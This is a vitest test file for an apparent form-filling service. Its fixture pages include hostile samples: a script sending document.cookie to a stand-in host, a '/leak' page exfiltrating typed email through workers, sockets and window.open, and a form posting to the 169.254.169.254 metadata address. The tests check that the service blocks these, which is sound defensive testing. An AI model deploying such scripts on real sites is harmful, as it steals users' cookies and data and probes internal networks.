import { mkdtempSync, rmSync } from "node:fs";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { launch } from "../../scripts/chaos/launcher";
import { type Answer, ask } from "../../scripts/client";

const page = (body: string) =>
  `<!doctype html><html lang="en"><meta charset="utf-8"><title>Form</title><body>${body}</body></html>`;
const THANKS = page("<h1>Thank you for your request.</h1><p>Reference number: REF-4711</p>");
const form = (fields: string, to = "/thanks") =>
  page(`<form method="post" action="${to}">${fields}<button>Send</button></form>`);

/** Pages as they are found in the world, each with one difficulty. */
const PAGES: Record<string, string> = {
  "/thanks": THANKS,
  "/silent": page("<p>Loading</p>"),
  "/trap": form(`<label>Email <input name="email"></label>
    <div style="position:absolute;left:-5000px"><label>Email again <input name="email2"></label></div>
    <input name="company" style="display:none"><input name="phone" aria-hidden="true" style="opacity:0">
    <label>Leave this field blank <input name="url"></label>
    <label><input type="checkbox" name="terms"> I agree to be called</label>`),
  "/frame": page(`<iframe src="/inner" width="500" height="400"></iframe>`),
  "/inner": form(`<label>First name <input name="a"></label><label>Phone <input name="b"></label>`),
  "/shadow":
    page(`<x-form></x-form><script>customElements.define("x-form", class extends HTMLElement {
    connectedCallback() { this.attachShadow({ mode: "open" }).innerHTML =
      '<label for="q">Work email</label><input id="q"><button>Submit</button>'; } });</script>`),
  "/mask": form(`<label>Mobile <input id="m" name="tel"></label><script>
    m.addEventListener("input", () => { const d = m.value.replace(/\\D/g, "").slice(-10);
      m.value = d.length > 6 ? "(" + d.slice(0, 3) + ") " + d.slice(3, 6) + "-" + d.slice(6) : d; });</script>`),
  "/odd": form(`<label>What moniker do you go by? <input name="q1"></label>
    <label>Favorite dinosaur <input name="q2"></label>`),
  "/refuses": form(`<label>Email <input name="email"></label>`, "/refuses"),
  "/unclear": form(`<label>Email <input name="email"></label>`, "/silent"),
  "/consent": form(`<label>Email <input name="email"></label>
    <label><input type="checkbox" name="ok" required> I consent to marketing calls</label>`),
  "/captcha": form(
    `<label>Email <input name="email"></label><div class="g-recaptcha">robot?</div>`,
  ),
  "/away": form(`<label>Email <input name="email"></label>`, "http://169.254.169.254/latest"),
  "/window":
    page(`<form method="post" target="_blank" action="/thanks"><label>Email <input name="email"></label>
    <button>Send</button></form>`),
  "/leak": form(`<label>Email <input name="email"></label><script>
    const tell = (how) => { try { how(); } catch {} };
    document.querySelector("form").addEventListener("submit", () => {
      const told = "?e=" + document.querySelector("input").value;
      tell(() => window.open("/leaked/open" + told));
      tell(() => new WebSocket("ws://" + location.host + "/leaked/socket" + told));
      tell(() => new Worker(URL.createObjectURL(new Blob(["fetch('" + location.origin + "/leaked/worker" + told + "')"]))));
      tell(() => new SharedWorker("/leaked/shared" + told));
      tell(() => navigator.serviceWorker.register("/leaked/service" + told));
    });</script>`),
  "/spy": form(
    `<label>Email <input name="email"></label><script>fetch("http://127.0.0.1:9/x?" + document.cookie)</script>`,
  ),
  "/radio": form(`<fieldset><legend>What kind of insurance do you need?</legend>
    <label><input type="radio" name="k" value="1"> Cyber</label>
    <label><input type="radio" name="k" value="2"> General liability insurance</label></fieldset>
    <label>Renewal date <input type="date" name="d"></label>
    <table><tr><td>Zip code</td><td><input name="z1" maxlength="5"></td></tr></table>`),
};

let server: Server;
let product: Awaited<ReturnType<typeof launch>>;
let base = "";
const folder = mkdtempSync(join(tmpdir(), "voice-agent-forms-"));
const asked: string[] = [];
const posted: { path: string; body: Record<string, string> }[] = [];

beforeAll(async () => {
  server = createServer(async (request: IncomingMessage, response) => {
    const path = new URL(request.url ?? "/", "http://forms").pathname;
    asked.push(path);
    let body = "";
    for await (const part of request) body += part;
    if (request.method === "POST")
      posted.push({ path, body: Object.fromEntries(new URLSearchParams(body)) });
    const refused = request.method === "POST" && path === "/refuses";
    response.setHeader("content-type", "text/html");
    response.end(
      refused
        ? page('<p role="alert">This email is not valid.</p>')
        : (PAGES[path] ?? page("Nothing")),
    );
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => server.once("listening", resolve));
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  base = `http://${host}`;
  product = await launch({
    args: ["--port", "0", "--data", folder, "--no-seed"],
    env: { WEBFORM_ALLOWED_HOSTS: host },
  });
});
afterAll(async () => {
  await product?.stop();
  server?.close();
  rmSync(folder, { recursive: true, force: true });
});

const VALUES = {
  name: "Zoë Ångström",
  email: "zoe@example.com",
  phone: "+15185550101",
  company: "王 & Sons",
  coverage_type: "general_liability",
  renewal_date: "2027-03-01",
  zip: "12207",
};
const fill = (path: string, more: object = {}): Promise<Answer> =>
  ask(product.ready, "POST", "/api/forms/fill", { url: base + path, values: VALUES, ...more });
const keys = ({ body }: Answer) =>
  Object.fromEntries(
    body.fields.map(({ key, value }: { key: string; value: string }) => [key, value]),
  );

test("bait, hidden fields and boxes of consent are left alone", async () => {
  const done = await fill("/trap", { submit: true });
  expect(done.body).toMatchObject({ status: "confirmed", confirmation: { reference: "REF-4711" } });
  expect(keys(done)).toEqual({ email: "zoe@example.com" });
  expect(posted.at(-1)?.body).toEqual({
    email: "zoe@example.com",
    email2: "",
    company: "",
    phone: "",
    url: "",
  });
});

test("frames, shadow roots, masks, radios, dates and tables are filled", async () => {
  expect(keys(await fill("/frame"))).toEqual({ given_name: "Zoë", tel: "+15185550101" });
  expect(keys(await fill("/shadow"))).toEqual({ email: "zoe@example.com" });
  expect(keys(await fill("/mask"))).toEqual({ tel: "(518) 555-0101" });
  expect(keys(await fill("/radio"))).toEqual({
    renewal_date: "2027-03-01",
    postal_code: "12207",
    coverage_type: "General liability insurance",
  });
});

test("what no rule knows is asked of the model by its label, and what it does not know stays empty", async () => {
  const done = await fill("/odd");
  expect(done.body.fields).toEqual([
    expect.objectContaining({ key: "name", how: "model", value: "Zoë Ångström" }),
  ]);
  expect(done.body.unfilled).toEqual([expect.objectContaining({ label: "Favorite dinosaur" })]);
  const again = await fill("/odd");
  expect(again.body.fields[0].how).toBe("recipe");
});

test("one job is sent once, and what a page does not confirm is not sent again by itself", async () => {
  const before = posted.length;
  const first = await fill("/unclear", { submit: true, job_key: "once" });
  expect(first.body.status).toBe("ambiguous");
  const second = await fill("/unclear", { submit: true, job_key: "once" });
  expect(second.body.status).toBe("ambiguous");
  expect(posted.length - before).toBe(1);
});

test.each([
  ["/refuses", "rejected", /not valid/],
  ["/consent", "needs_human", /consent to marketing/],
  ["/captcha", "needs_human", /person is there/],
  ["/away", "needs_human", /not on the list/],
])("%s ends as %s", async (path, status, why) => {
  const { body } = await fill(path, { submit: true });
  expect(body.status).toBe(status);
  expect(JSON.stringify([body.reason, body.problems])).toMatch(why);
});

test("a form stays in its window, and what a page would tell past its requests is told nobody", async () => {
  expect((await fill("/window", { submit: true })).body.status).toBe("confirmed");
  expect((await fill("/leak", { submit: true })).body.status).toBe("confirmed");
  expect(asked.filter((path) => path.startsWith("/leaked"))).toEqual([]);
  const gone = await fill("/trap", { submit: true, job_key: "once" });
  expect(gone).toMatchObject({ status: 422, body: { code: "form_unusable" } });
});

test("a page reaches nobody's own network, and a host that is not listed is not opened", async () => {
  expect((await fill("/spy")).body.status).toBe("filled");
  const elsewhere = await ask(product.ready, "POST", "/api/forms/fill", {
    url: "https://example.com/",
    values: {},
  });
  expect(elsewhere).toMatchObject({ status: 422, body: { code: "host_not_allowed" } });
  const unknown = await ask(product.ready, "POST", "/api/forms/fill", {
    url: base,
    values: { ssn: "1" },
  });
  expect(unknown).toMatchObject({ status: 400, body: { code: "invalid_request" } });
});
